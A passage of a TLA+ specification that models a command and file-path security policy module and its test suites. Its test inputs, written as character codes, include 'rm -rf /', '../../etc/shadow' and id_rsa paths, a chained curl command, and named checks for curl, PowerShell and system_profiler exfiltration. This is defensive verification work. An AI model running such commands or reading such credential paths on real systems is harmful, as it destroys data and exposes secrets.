          <<92, 92, 115, 101, 114, 118, 101, 114, 92, 115, 104, 97, 114, 101, 92, 105, 100, 95, 114, 115, 97>>,            \* \\server\share\id_rsa
          <<47, 104, 111, 109, 101, 47, 117, 47, 8490, 110, 111, 119, 110, 95, 104, 111, 115, 116, 115>>,             \* "/home/u/\u212Anown_hosts" (KELVIN SIGN)
          <<100, 97, 116, 97, 47, 46, 46, 47, 46, 46, 47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119>>}                \* "data/../../etc/shadow"

PathInputs == Padded(UNION {Variants(b) : b \in PathBases})

\* Inputs of the calls that interleave with the accessors and the wrappers
ProbeCommands == {<<112, 119, 100>>, <<112, 119, 100, 10>>, <<108, 115>>, CurlExfilCommand}    \* "pwd" "pwd\n" "ls"

ProbePaths == {SensitiveReadPath, RelativePath, <<47, 116, 109, 112, 47, 100, 97, 116, 97, 46, 116, 120, 116>>}  \* "/tmp/data.txt"

\* What a caller may write into an array it was handed
CallerEntry == <<114, 109, 32, 45, 114, 102, 32, 47>>

TerminalIds == {"terminal-1"}

-----------------------------------------------------------------------------
(* Reporting: results, highest severity, triage order, rendered report    *)
(* (policy.ts 149-232)                                                     *)

\* type SecuritySuiteResult = {name, status, severity, details}; details is
\* kept as the parts of the template string that built it.
SecuritySeverity == {"low", "medium", "high", "critical"}

SecurityStatus == {"pass", "fail"}

SecuritySuiteResult(name, resultStatus, severity, details) ==
    [name |-> name, status |-> resultStatus, severity |-> severity, details |-> details]

\* A push that drops the failures
addSecurityResult_SkipsFail(array, name, resultStatus, severity, details) ==
    IF resultStatus = "fail" THEN array
    ELSE Append(array, SecuritySuiteResult(name, resultStatus, severity, details))

addSecurityResult(array, name, resultStatus, severity, details) ==
    Append(array, SecuritySuiteResult(name, resultStatus, severity, details))

\* const order = ["low", "medium", "high", "critical"]; order.indexOf(s)
order == <<"low", "medium", "high", "critical">>

orderIndexOf(severity) ==
    IF \E i \in 1..Len(order) : order[i] = severity
    THEN (CHOOSE i \in 1..Len(order) : order[i] = severity) - 1
    ELSE -1

\* if (order.indexOf(r.severity) > order.indexOf(highest)) highest = r.severity
Higher ==
    [severity \in SecuritySeverity, highest \in SecuritySeverity |->
        IF orderIndexOf(severity) > orderIndexOf(highest) THEN severity ELSE highest]

\* for (const r of results) ...: the loop over array[from..to], entered with
\* highest; it runs the first half, then the second half with what the first
\* half left in highest.
RECURSIVE HighestThrough(_, _, _, _)
HighestThrough(array, from, to, highest) ==
    IF from > to THEN highest
    ELSE IF from = to THEN Higher[array[from].severity, highest]
    ELSE CHOOSE last \in
             {HighestThrough(array, ((from + to) \div 2) + 1, to, seen) :
                  seen \in {HighestThrough(array, from, (from + to) \div 2, highest)}} : TRUE

getHighestSeverity_LastSeen(array) ==
    IF array = <<>> THEN "low" ELSE array[Len(array)].severity

\* let highest = "low"; for (const r of results) ...; return highest
getHighestSeverity(array) ==
    CHOOSE highest \in {HighestThrough(a, 1, Len(a), "low") : a \in {array}} : TRUE

severityOrder(severity) ==
    CASE severity = "critical" -> 0
      [] severity = "high" -> 1
      [] severity = "medium" -> 2
      [] severity = "low" -> 3

statusOrder(resultStatus) ==
    CASE resultStatus = "fail" -> 0
      [] resultStatus = "pass" -> 1

\* String.prototype.localeCompare under the root collation, for names over
\* [a-z0-9_]: the underscore sorts before the digits, the digits before the
\* letters, and a proper prefix before its extensions.
CollationWeight(c) ==
    CASE c = 95 -> 0
      [] c \in 48..57 -> 1 + (c - 48)
      [] c \in 97..122 -> 11 + (c - 97)

\* The first position at which the weights differ decides; without one, the
\* shorter string comes first.
DiffersAt(a, b, i) == CollationWeight(a[i]) # CollationWeight(b[i])

localeCompare(a, b) ==
    LET shorter == IF Len(a) < Len(b) THEN Len(a) ELSE Len(b)
        first == CHOOSE i \in 1..shorter :
                     DiffersAt(a, b, i) /\ \A j \in 1..(i - 1) : ~DiffersAt(a, b, j)
    IN  IF \E i \in 1..shorter : DiffersAt(a, b, i)
        THEN IF CollationWeight(a[first]) < CollationWeight(b[first]) THEN -1 ELSE 1
        ELSE IF Len(a) < Len(b) THEN -1
        ELSE IF Len(a) > Len(b) THEN 1
        ELSE 0

\* The comparator handed to sort (policy.ts 198-206)
compareForTriage(a, b) ==
    LET bySeverity == severityOrder(a.severity) - severityOrder(b.severity)
        byStatus == statusOrder(a.status) - statusOrder(b.status)
    IN  IF bySeverity # 0 THEN bySeverity
        ELSE IF byStatus # 0 THEN byStatus
        ELSE localeCompare(a.name, b.name)

\* Array.prototype.sort is stable: an element goes after the elements that
\* compare less than it and after the earlier elements that compare equal
\* to it.  StablePosition is the number of elements that go before a[i].
StablePosition_LaterTiesFirst(a, i) ==
    Cardinality({j \in 1..Len(a) :
                    IF j > i THEN compareForTriage(a[j], a[i]) <= 0
                    ELSE j # i /\ compareForTriage(a[j], a[i]) < 0})

StablePosition(a, i) ==
    Cardinality({j \in 1..Len(a) :
                    IF j < i THEN compareForTriage(a[j], a[i]) <= 0
                    ELSE j # i /\ compareForTriage(a[j], a[i]) < 0})

\* (the array and the positions are evaluated once, then used)
Arranged(a, position) ==
    CHOOSE sorted \in {[k \in 1..Len(a) |-> a[CHOOSE i \in 1..Len(a) : p[i] = k - 1]] :
                       p \in {position}} : TRUE

ArraySort(array) ==
    CHOOSE sorted \in {Arranged(a, [i \in 1..Len(a) |-> StablePosition(a, i)]) :
                       a \in {array}} : TRUE

\* [...results].sort(...): "array" is the argument as the call leaves it,
\* "value" the array returned.
sortResultsForTriage_InPlace(array) ==
    [array |-> ArraySort(array), value |-> ArraySort(array)]

sortResultsForTriage(array) ==
    [array |-> array, value |-> ArraySort(array)]

FailCount(array) == Cardinality({i \in 1..Len(array) : array[i].status = "fail"})

\* renderSuiteReport: "report" is what is written to the output element
\* (generatedAt, the wall-clock time, is left out), "value" the summary
\* returned, "array" the argument as the call leaves it.
renderSuiteReport_SwapsCounts(suiteName, array) ==
    [array |-> array,
     report |-> [suite |-> suiteName,
                 summary |-> [total |-> Len(array), passed |-> FailCount(array),
                              failed |-> Len(array) - FailCount(array),
                              highestSeverity |-> getHighestSeverity(array)],
                 results |-> ArraySort(array)],
     value |-> [failed |-> Len(array) - FailCount(array), passed |-> FailCount(array),
                total |-> Len(array), highestSeverity |-> getHighestSeverity(array)]]

renderSuiteReport(suiteName, array) ==
    LET sortedCall == sortResultsForTriage(array)
        sortedResults == sortedCall.value
        failed == FailCount(array)
        passed == Len(array) - failed
        highestSeverity == getHighestSeverity(array)
    IN  [array |-> sortedCall.array,
         report |-> [suite |-> suiteName,
                     summary |-> [total |-> Len(array), passed |-> passed,
                                  failed |-> failed, highestSeverity |-> highestSeverity],
                     results |-> sortedResults],
         value |-> [failed |-> failed, passed |-> passed, total |-> Len(array),
                    highestSeverity |-> highestSeverity]]

-----------------------------------------------------------------------------
\* The output elements of the page, one per suite and one for the rollup
SuiteNames == <<"terminal", "filesystem", "events", "settings", "dataverse">>

OutputIdOf(suiteName) == suiteName \o "-suite-output"

OutputIds == {OutputIdOf(SuiteNames[i]) : i \in 1..Len(SuiteNames)} \cup {"overall-suite-output"}

\* textContent of an output element: what kind of text it holds, the report
\* if it holds one, and how many reports have been written to it.
NoReport == [suite |-> "none"]

EmptyOutput == [text |-> "empty", report |-> NoReport, reports |-> 0]

WriteText(element, text) == [element EXCEPT !.text = text, !.report = NoReport]

WriteReport(element, report) ==
    [text |-> "report", report |-> report, reports |-> element.reports + 1]

NoLocal == [none |-> TRUE]

NoHost == [none |-> TRUE]

\* The page as loaded: an empty terminal output, no terminal event delivered
EmptyTerminalOutput == [present |-> TRUE, textContent |-> <<>>]

NoEvent == [handler |-> "none", delivered |-> 0]

\* `security.suite.temp.${Date.now()}`
tempKey == <<115, 101, 99, 117, 114, 105, 116, 121, 46, 115, 117, 105, 116, 101, 46, 116, 101, 109, 112, 46, 49, 55, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48>>

BatchKeys == <<<<115, 101, 99, 117, 114, 105, 116, 121, 46, 115, 117, 105, 116, 101, 46, 98, 97, 116, 99, 104, 46, 111, 110, 101>>, <<115, 101, 99, 117, 114, 105, 116, 121, 46, 115, 117, 105, 116, 101, 46, 98, 97, 116, 99, 104, 46, 116, 119, 111>>>>

\* No terminal button handler is in flight
NoUi == [creating |-> 0, closing |-> {}, clicks |-> 0]

\* The keys the settings suite writes (498, 506), and a key of the tool's own
UserKey == <<116, 104, 101, 109, 101>>

SettingsKeys == {tempKey, BatchKeys[1], BatchKeys[2], UserKey}

EmptyStore == [key \in SettingsKeys |-> "absent"]

\* The shared state an invocation finds: the current terminal, if any, is
\* the one open terminal; the handles and the store are remembered
AtInvocation ==
    /\ openTerminals = {currentTerminal} \ {"none"}
    /\ closedTerminals = {}
    /\ ui = NoUi
    /\ invoked = [terminal |-> currentTerminal, connection |-> currentConnection,
                  store |-> store]

PageLoaded ==
    /\ terminalOutput = EmptyTerminalOutput
    /\ handled = NoEvent
    /\ store = EmptyStore
    /\ AtInvocation

\* No entry point of the suites has been invoked
NoInvocation ==
    /\ entry = "none"
    /\ pc = "idle"
    /\ host = NoHost
    /\ currentTerminal = "none"
    /\ currentConnection = FALSE
    /\ results = <<>>
    /\ local = NoLocal
    /\ output = [id \in OutputIds |-> EmptyOutput]
    /\ suiteCalls = <<>>
    /\ notifications = <<>>
    /\ progress = <<>>
    /\ returned = <<>>
    /\ PageLoaded

-----------------------------------------------------------------------------
(* The suites (policy.ts 248-663)                                         *)

\* toSafeTestId: trim, toLowerCase, every run of characters outside [a-z0-9]
\* replaced by one "_", leading and trailing "_" removed, first 60 kept
IsLowerAlnum(c) == c \in 97..122 \/ c \in 48..57

RECURSIVE SkipNonAlnum(_)
SkipNonAlnum(s) ==
    IF s # <<>> /\ ~IsLowerAlnum(Head(s)) THEN SkipNonAlnum(Tail(s)) ELSE s

RECURSIVE ReplaceNonAlnumRuns(_)
ReplaceNonAlnumRuns(s) ==
    IF s = <<>> THEN <<>>
    ELSE IF IsLowerAlnum(Head(s)) THEN <<Head(s)>> \o ReplaceNonAlnumRuns(Tail(s))
    ELSE <<95>> \o ReplaceNonAlnumRuns(SkipNonAlnum(s))

RECURSIVE StripLeadingUnderscores(_)
StripLeadingUnderscores(s) ==
    IF s # <<>> /\ Head(s) = 95 THEN StripLeadingUnderscores(Tail(s)) ELSE s

RECURSIVE StripTrailingUnderscores(_)
StripTrailingUnderscores(s) ==
    IF s # <<>> /\ s[Len(s)] = 95
    THEN StripTrailingUnderscores(SubSeq(s, 1, Len(s) - 1)) ELSE s

SafeTestIdLength == 60

Slice(s, from, to) == SubSeq(s, from + 1, IF to < Len(s) THEN to ELSE Len(s))

toSafeTestId_FirstWord(value) ==
    LET lowered == ToLowerCase(Trim(value))
        start == SkipNonAlnum(lowered)
        n == CHOOSE k \in 0..Len(start) :
                 /\ \A i \in 1..k : IsLowerAlnum(start[i])
                 /\ k < Len(start) => ~IsLowerAlnum(start[k + 1])
    IN  SubSeq(start, 1, n)

toSafeTestId(value) ==
    Slice(StripTrailingUnderscores(StripLeadingUnderscores(
              ReplaceNonAlnumRuns(ToLowerCase(Trim(value))))),
          0, SafeTestIdLength)

OrElse(text, fallback) == IF text = <<>> THEN fallback ELSE text

\* The policy-only checks of runTerminalSecuritySuite (policy.ts 276-350),
\* in the order the source pushes them
AllowListCheck(allowed) ==
    LET reason == getBlockedCommandReason(allowed)
    IN  SecuritySuiteResult(
            <<97, 108, 108, 111, 119, 108, 105, 115, 116, 95, 97, 108, 108, 111, 119, 115, 95>> \o OrElse(toSafeTestId(allowed), <<101, 109, 112, 116, 121>>),
            IF reason.isNull THEN "pass" ELSE "fail",
            "high",
            IF reason.isNull THEN <<65, 108, 108, 111, 119, 45, 108, 105, 115, 116, 101, 100, 32, 99, 111, 109, 109, 97, 110, 100, 32, 97, 108, 108, 111, 119, 101, 100>>
            ELSE <<65, 108, 108, 111, 119, 45, 108, 105, 115, 116, 101, 100, 32, 99, 111, 109, 109, 97, 110, 100, 32, 119, 97, 115, 32, 98, 108, 111, 99, 107, 101, 100, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 108, 121, 46, 32, 82, 101, 97, 115, 111, 110, 58, 32>> \o reason.text)

AllowListChecks(allowed) == [i \in 1..Len(allowed) |-> AllowListCheck(allowed[i])]

BlockListCheck(token) ==
    assertCommandBlockedWithToken(
        <<98, 108, 111, 99, 107, 108, 105, 115, 116, 95, 98, 108, 111, 99, 107, 115, 95>> \o OrElse(toSafeTestId(token), <<116, 111, 107, 101, 110>>),
        SyntheticCommand(token), token, "high")

BlockListChecks(tokens) == [i \in 1..Len(tokens) |-> BlockListCheck(tokens[i])]

BlockedCheck(name, command, severity, passText, failText) ==
    LET blocked == ~getBlockedCommandReason(command).isNull
    IN  SecuritySuiteResult(name, IF blocked THEN "pass" ELSE "fail", severity,
                            IF blocked THEN passText ELSE failText)

OverlongCheck ==
    LET overlongBlocked == getBlockedCommandReason(OverlongCommand) = Str(ReasonTooLong)
    IN  SecuritySuiteResult(<<99, 111, 109, 109, 97, 110, 100, 95, 109, 97, 120, 95, 108, 101, 110, 103, 116, 104, 95, 101, 110, 102, 111, 114, 99, 101, 100>>,
            IF overlongBlocked THEN "pass" ELSE "fail", "medium",
            IF overlongBlocked THEN <<79, 118, 101, 114, 108, 111, 110, 103, 32, 99, 111, 109, 109, 97, 110, 100, 32, 98, 108, 111, 99, 107, 101, 100>>
            ELSE <<79, 118, 101, 114, 108, 111, 110, 103, 32, 99, 111, 109, 109, 97, 110, 100, 32, 119, 97, 115, 32, 110, 111, 116, 32, 98, 108, 111, 99, 107, 101, 100>>)

FixedCommandChecks ==
    << BlockedCheck(<<99, 111, 109, 109, 97, 110, 100, 95, 97, 108, 108, 111, 119, 108, 105, 115, 116, 95, 101, 120, 97, 99, 116, 95, 109, 97, 116, 99, 104>>, <<108, 115>>, "high",
           <<78, 111, 110, 45, 97, 108, 108, 111, 119, 45, 108, 105, 115, 116, 101, 100, 32, 99, 111, 109, 109, 97, 110, 100, 32, 119, 97, 115, 32, 98, 108, 111, 99, 107, 101, 100>>,
           <<67, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 105, 110, 32, 97, 108, 108, 111, 119, 45, 108, 105, 115, 116, 32, 119, 97, 115, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 108, 121, 32, 97, 108, 108, 111, 119, 101, 100>>),
       BlockedCheck(<<99, 111, 109, 109, 97, 110, 100, 95, 98, 108, 111, 99, 107, 101, 100, 95, 116, 111, 107, 101, 110, 95, 100, 101, 116, 101, 99, 116, 105, 111, 110>>,
           <<101, 99, 104, 111, 32, 111, 107, 32, 38, 38, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109>>, "high",
           <<82, 105, 115, 107, 121, 32, 116, 111, 107, 101, 110, 32, 112, 97, 116, 116, 101, 114, 110, 32, 119, 97, 115, 32, 98, 108, 111, 99, 107, 101, 100>>,
           <<82, 105, 115, 107, 121, 32, 116, 111, 107, 101, 110, 32, 112, 97, 116, 116, 101, 114, 110, 32, 98, 121, 112, 97, 115, 115, 101, 100, 32, 99, 111, 109, 109, 97, 110, 100, 32, 112, 111, 108, 105, 99, 121>>),
       assertCommandBlockedWithToken(<<99, 111, 109, 109, 97, 110, 100, 95, 108, 111, 99, 97, 108, 95, 100, 97, 116, 97, 95, 112, 105, 112, 101, 95, 116, 111, 95, 99, 117, 114, 108>>,
           CurlExfilCommand, <<99, 117, 114, 108>>, "critical"),
       assertCommandBlockedWithToken(<<99, 111, 109, 109, 97, 110, 100, 95, 109, 97, 99, 111, 115, 95, 105, 110, 118, 101, 110, 116, 111, 114, 121, 95, 101, 120, 102, 105, 108>>,
           MacInventoryCommand, <<115, 121, 115, 116, 101, 109, 95, 112, 114, 111, 102, 105, 108, 101, 114>>, "critical"),
       assertCommandBlockedWithToken(<<99, 111, 109, 109, 97, 110, 100, 95, 112, 111, 119, 101, 114, 115, 104, 101, 108, 108, 95, 101, 120, 102, 105, 108>>,
           PsExfilCommand, <<105, 110, 118, 111, 107, 101, 45, 119, 101, 98, 114, 101, 113, 117, 101, 115, 116>>, "critical"),
       BlockedCheck(<<99, 111, 109, 109, 97, 110, 100, 95, 109, 117, 108, 116, 105, 108, 105, 110, 101, 95, 105, 110, 106, 101, 99, 116, 105, 111, 110, 95, 98, 108, 111, 99, 107>>, NewlineInjectionCommand, "high",
           <<77, 117, 108, 116, 105, 108, 105, 110, 101, 32, 99, 111, 109, 109, 97, 110, 100, 32, 98, 108, 111, 99, 107, 101, 100>>, <<77, 117, 108, 116, 105, 108, 105, 110, 101, 32, 99, 111, 109, 109, 97, 110, 100, 32, 119, 97, 115, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 108, 121, 32, 97, 108, 108, 111, 119, 101, 100>>),
       OverlongCheck,
       BlockedCheck(<<99, 111, 109, 109, 97, 110, 100, 95, 99, 111, 110, 116, 114, 111, 108, 95, 99, 104, 97, 114, 95, 98, 108, 111, 99, 107>>, ControlCharCommand, "high",
           <<67, 111, 110, 116, 114, 111, 108, 45, 99, 104, 97, 114, 97, 99, 116, 101, 114, 32, 99, 111, 109, 109, 97, 110, 100, 32, 98, 108, 111, 99, 107, 101, 100>>,
           <<67, 111, 110, 116, 114, 111, 108, 45, 99, 104, 97, 114, 97, 99, 116, 101, 114, 32, 99, 111, 109, 109, 97, 110, 100, 32, 119, 97, 115, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 108, 121, 32, 97, 108, 108, 111, 119, 101, 100>>) >>

TerminalPolicyChecks ==
    AllowListChecks(TERMINAL_ALLOWED_COMMANDS)
        \o BlockListChecks(TERMINAL_BLOCKED_TOKENS)
        \o FixedCommandChecks

-----------------------------------------------------------------------------
(* State machine                                                           *)

InitCatalog ==
    /\ heap = (AllowedCommandsRef :> TERMINAL_ALLOWED_COMMANDS_literal)
              @@ (BlockedTokensRef :> TERMINAL_BLOCKED_TOKENS_literal)
              @@ (PathBlockListRef :> FILE_PATH_BLOCK_LIST_literal)
    /\ callerRefs = {}
    /\ startup = [command |-> [c \in ProbeCommands |-> getBlockedCommandReason(c)],
                  path |-> [p \in ProbePaths |-> getBlockedPathReason(p)]]
    /\ executeCalls = {}
    /\ readTextCalls = {}

\* Module loaded, nothing called yet
Init ==
    /\ InitCatalog
    /\ NoInvocation
    /\ fn = "none"
    /\ arg = <<>>
    /\ status = "returned"
    /\ ret = Null

EvaluateCommand ==
    \E command \in ProbeCommands :
        /\ fn' = "getBlockedCommandReason"
        /\ arg' = command
        /\ status' = "returned"
        /\ ret' = getBlockedCommandReason(command)
        /\ UNCHANGED <<heap, callerRefs, startup, executeCalls, readTextCalls>>
        /\ UNCHANGED suiteVars

EvaluatePath ==
    \E filePath \in ProbePaths :
        /\ fn' = "getBlockedPathReason"
        /\ arg' = filePath
        /\ status' = "returned"
        /\ ret' = getBlockedPathReason(filePath)
        /\ UNCHANGED <<heap, callerRefs, startup, executeCalls, readTextCalls>>
        /\ UNCHANGED suiteVars

GuardedExecute ==
    \E terminalId \in TerminalIds, command \in ProbeCommands, capabilityRejects \in BOOLEAN :
        LET r == executeCommandWithPolicyGuard(terminalId, command, capabilityRejects)
        IN  /\ fn' = "executeCommandWithPolicyGuard"
            /\ arg' = command
            /\ status' = r.status
            /\ ret' = r.value
            /\ executeCalls' = executeCalls \cup r.calls
            /\ UNCHANGED <<heap, callerRefs, startup, readTextCalls>>
            /\ UNCHANGED suiteVars

GuardedRead ==
    \E filePath \in ProbePaths, capabilityRejects \in BOOLEAN :
        LET r == readTextWithPolicyGuard(filePath, capabilityRejects)
        IN  /\ fn' = "readTextWithPolicyGuard"
            /\ arg' = filePath
            /\ status' = r.status
            /\ ret' = r.value
            /\ readTextCalls' = readTextCalls \cup r.calls
            /\ UNCHANGED <<heap, callerRefs, startup, executeCalls>>
            /\ UNCHANGED suiteVars

\* A caller obtains one of the lists
Listed(name, r) ==
    /\ Cardinality(callerRefs) < MaxCallerArrays
    /\ heap' = r.heap
    /\ callerRefs' = callerRefs \cup {r.ref}
    /\ fn' = name
    /\ arg' = <<>>
    /\ status' = "returned"
    /\ ret' = Null
    /\ UNCHANGED <<startup, executeCalls, readTextCalls>>
    /\ UNCHANGED suiteVars

ListAllowedCommands == Listed("listTerminalAllowedCommands", listTerminalAllowedCommands)

ListBlockedTokens == Listed("listTerminalBlockedTokens", listTerminalBlockedTokens)

ListBlockedPatterns == Listed("listFilePathBlockedPatterns", listFilePathBlockedPatterns)

\* A caller modifies an array it holds: array.length = 0, or array[0] = entry
CallerClears ==
    \E r \in callerRefs :
        /\ heap[r] # <<>>
        /\ heap' = [heap EXCEPT ![r] = <<>>]
        /\ UNCHANGED <<callerRefs, startup, fn, arg, status, ret, executeCalls, readTextCalls>>
        /\ UNCHANGED suiteVars

CallerOverwrites ==
    \E r \in callerRefs :
        /\ IF heap[r] = <<>> THEN TRUE ELSE heap[r][1] # CallerEntry
        /\ heap' = [heap EXCEPT ![r] = IF heap[r] = <<>> THEN <<CallerEntry>>
                                         ELSE [heap[r] EXCEPT ![1] = CallerEntry]]
        /\ UNCHANGED <<callerRefs, startup, fn, arg, status, ret, executeCalls, readTextCalls>>
        /\ UNCHANGED suiteVars

Next ==
    \/ EvaluateCommand
    \/ EvaluatePath
    \/ GuardedExecute
    \/ GuardedRead
    \/ ListAllowedCommands
    \/ ListBlockedTokens
    \/ ListBlockedPatterns
    \/ CallerClears
    \/ CallerOverwrites

Spec == Init /\ [][Next]_vars

(* The command evaluator on its own: the input is drawn, then evaluated    *)
InitCommand ==
    /\ InitCatalog
    /\ NoInvocation
    /\ fn = "getBlockedCommandReason"
    /\ arg \in CommandInputs
    /\ status = "pending"
    /\ ret = Null

ApplyCommand ==
    /\ fn = "getBlockedCommandReason"
    /\ status = "pending"
    /\ status' = "returned"
    /\ ret' = getBlockedCommandReason(arg)
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, executeCalls, readTextCalls>>
    /\ UNCHANGED suiteVars

SpecCommand == InitCommand /\ [][ApplyCommand]_vars

(* The path evaluator on its own                                           *)
InitPath ==
    /\ InitCatalog
    /\ NoInvocation
    /\ fn = "getBlockedPathReason"
    /\ arg \in PathInputs
    /\ status = "pending"
    /\ ret = Null

ApplyPath ==
    /\ fn = "getBlockedPathReason"
    /\ status = "pending"
    /\ status' = "returned"
    /\ ret' = getBlockedPathReason(arg)
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, executeCalls, readTextCalls>>
    /\ UNCHANGED suiteVars

SpecPath == InitPath /\ [][ApplyPath]_vars

(* The reporting functions on their own: a result array is drawn, rendered, *)
(* and the rendered results are sorted once more                           *)
MaxResults == 3

NameA1 == <<97, 49>>

NameA_B == <<97, 95, 98>>

ResultPool ==
    {SecuritySuiteResult(NameA1, st, sev, <<102, 105, 114, 115, 116>>) : st \in SecurityStatus, sev \in SecuritySeverity}
    \cup {SecuritySuiteResult(NameA_B, "fail", "high", <<102, 105, 114, 115, 116>>),
          SecuritySuiteResult(NameA_B, "pass", "high", <<102, 105, 114, 115, 116>>),
          SecuritySuiteResult(NameA_B, "pass", "low", <<102, 105, 114, 115, 116>>),
          SecuritySuiteResult(NameA1, "fail", "critical", <<115, 101, 99, 111, 110, 100>>),
          SecuritySuiteResult(NameA1, "pass", "low", <<115, 101, 99, 111, 110, 100>>)}

ResultArrays == UNION {[1..n -> ResultPool] : n \in 0..MaxResults}

InitReport ==
    /\ InitCatalog
    /\ fn = "none"
    /\ arg = <<>>
    /\ status = "returned"
    /\ ret = Null
    /\ entry = "renderSuiteReport"
    /\ pc = "drawn"
    /\ host = NoHost
    /\ currentTerminal = "none"
    /\ currentConnection = FALSE
    /\ results \in ResultArrays
    /\ local = NoLocal
    /\ output = [id \in OutputIds |-> EmptyOutput]
    /\ suiteCalls = <<>>
    /\ notifications = <<>>
    /\ progress = <<>>
    /\ returned = <<>>
    /\ PageLoaded

\* renderSuiteReport("terminal-suite-output", "terminal", results)
RenderDrawn ==
    /\ entry = "renderSuiteReport"
    /\ pc = "drawn"
    /\ LET r == renderSuiteReport("terminal", results)
       IN  /\ results' = r.array
           /\ output' = [output EXCEPT ![OutputIdOf("terminal")] = WriteReport(@, r.report)]
           /\ local' = [given |-> results, summary |-> r.value]
    /\ pc' = "rendered"
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, suiteCalls,
                   notifications, progress, returned>>

\* sortResultsForTriage applied to the results of the rendered report
SortRendered ==
    /\ entry = "renderSuiteReport"
    /\ pc = "rendered"
    /\ LET r == sortResultsForTriage(output[OutputIdOf("terminal")].report.results)
       IN  local' = [given |-> local.given, summary |-> local.summary,
                     again |-> r.value]
    /\ pc' = "sorted"
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, results, output,
                   suiteCalls, notifications, progress, returned>>

NextReport == RenderDrawn \/ SortRendered

SpecReport == InitReport /\ [][NextReport]_vars

-----------------------------------------------------------------------------
(* The suite runs: one invocation of an entry point of createSecuritySuites *)
(* against a host.  An action runs the code from one await to the next; a   *)
(* capability call is recorded when it is made and settles, resolved or     *)
(* rejected, in the next action.                                            *)

Entries == {"terminal", "filesystem", "events", "settings", "dataverse", "all"}

\* What the host offers.  events: "on" (callable), "on_throws" (callable,
\* throws), "on_missing" (events without on), "missing" (no events object);
\* fileSystem, dataverse: the methods present; settings: whether the object
\* is present, and its methods.
\* What the settings store may hold when the settings suite is invoked
StoresBefore ==
    { EmptyStore,
      [EmptyStore EXCEPT ![UserKey] = "user"],
      [EmptyStore EXCEPT ![UserKey] = "user", ![BatchKeys[1]] = "user"] }

FullHost ==
    [events |-> "on",
     fileSystem |-> {<<114, 101, 97, 100, 84, 101, 120, 116>>, <<114, 101, 97, 100, 68, 105, 114, 101, 99, 116, 111, 114, 121>>, <<99, 114, 101, 97, 116, 101, 68, 105, 114, 101, 99, 116, 111, 114, 121>>, <<115, 97, 118, 101, 70, 105, 108, 101>>, <<115, 101, 108, 101, 99, 116, 80, 97, 116, 104>>},
     settings |-> [present |-> TRUE,
                   methods |-> {<<103, 101, 116>>, <<115, 101, 116>>, <<115, 101, 116, 65, 108, 108>>, <<103, 101, 116, 65, 108, 108>>, <<100, 101, 108, 101, 116, 101>>}],
     dataverse |-> {<<102, 101, 116, 99, 104, 88, 109, 108, 81, 117, 101, 114, 121>>, <<113, 117, 101, 114, 121, 68, 97, 116, 97>>, <<101, 120, 101, 99, 117, 116, 101>>, <<103, 101, 116, 69, 110, 116, 105, 116, 121, 77, 101, 116, 97, 100, 97, 116, 97>>}]

PartialHost ==
    [events |-> "on_throws",
     fileSystem |-> {<<114, 101, 97, 100, 84, 101, 120, 116>>, <<114, 101, 97, 100, 68, 105, 114, 101, 99, 116, 111, 114, 121>>},
     settings |-> [present |-> TRUE, methods |-> {<<103, 101, 116>>, <<115, 101, 116>>, <<100, 101, 108, 101, 116, 101>>}],
     dataverse |-> {<<113, 117, 101, 114, 121, 68, 97, 116, 97>>, <<101, 120, 101, 99, 117, 116, 101>>}]

OlderHost ==
    [events |-> "on_missing",
     fileSystem |-> {<<114, 101, 97, 100, 84, 101, 120, 116>>, <<114, 101, 97, 100, 68, 105, 114, 101, 99, 116, 111, 114, 121>>, <<99, 114, 101, 97, 116, 101, 68, 105, 114, 101, 99, 116, 111, 114, 121>>, <<115, 97, 118, 101, 70, 105, 108, 101>>, <<115, 101, 108, 101, 99, 116, 80, 97, 116, 104>>},
     settings |-> [present |-> TRUE, methods |-> {<<103, 101, 116>>, <<115, 101, 116>>, <<115, 101, 116, 65, 108, 108>>, <<103, 101, 116, 65, 108, 108>>}],
     dataverse |-> {<<102, 101, 116, 99, 104, 88, 109, 108, 81, 117, 101, 114, 121>>, <<113, 117, 101, 114, 121, 68, 97, 116, 97>>, <<103, 101, 116, 69, 110, 116, 105, 116, 121, 77, 101, 116, 97, 100, 97, 116, 97>>}]

BareHost ==
    [events |-> "missing",
     fileSystem |-> {},
     settings |-> [present |-> FALSE, methods |-> {}],
     dataverse |-> {<<102, 101, 116, 99, 104, 88, 109, 108, 81, 117, 101, 114, 121>>}]

Hosts == {FullHost, PartialHost, OlderHost, BareHost}

\* The message of the TypeError raised by calling what is not a function
NotAFunction == <<105, 115, 32, 110, 111, 116, 32, 97, 32, 102, 117, 110, 99, 116, 105, 111, 110>>

InitSuites ==
    /\ InitCatalog
    /\ fn = "none"
    /\ arg = <<>>
    /\ status = "returned"
    /\ ret = Null
    /\ entry \in Entries
    /\ pc = IF entry = "all" THEN "all_invoked" ELSE "call"
    /\ host \in Hosts
    /\ currentTerminal \in {"none"} \cup TerminalIds
    /\ currentConnection \in BOOLEAN
    /\ results = <<>>
    /\ local = [suite |-> IF entry = "all" THEN "none" ELSE entry, sent |-> 0, terminal |-> "none"]
    /\ output = [id \in OutputIds |-> EmptyOutput]
    /\ suiteCalls = <<>>
    /\ notifications = <<>>
    /\ progress = <<>>
    /\ returned = <<>>
    /\ terminalOutput = EmptyTerminalOutput
    /\ handled = NoEvent
    /\ store \in IF entry = "settings" THEN StoresBefore ELSE {EmptyStore}
    /\ AtInvocation

\* Every suite call asks for its own notification
showNotificationOnFinish_Always == TRUE

\* showNotificationOnFinish: true from the entry points (646-661), false
\* from runAllSuites (598-602)
showNotificationOnFinish == entry # "all"

Notification(title, type, failed) == [title |-> title, type |-> type, failed |-> failed]

CompletedTitle(suiteName) ==
    CASE suiteName = "terminal" -> "Terminal Suite Completed"
      [] suiteName = "filesystem" -> "FileSystem Suite Completed"
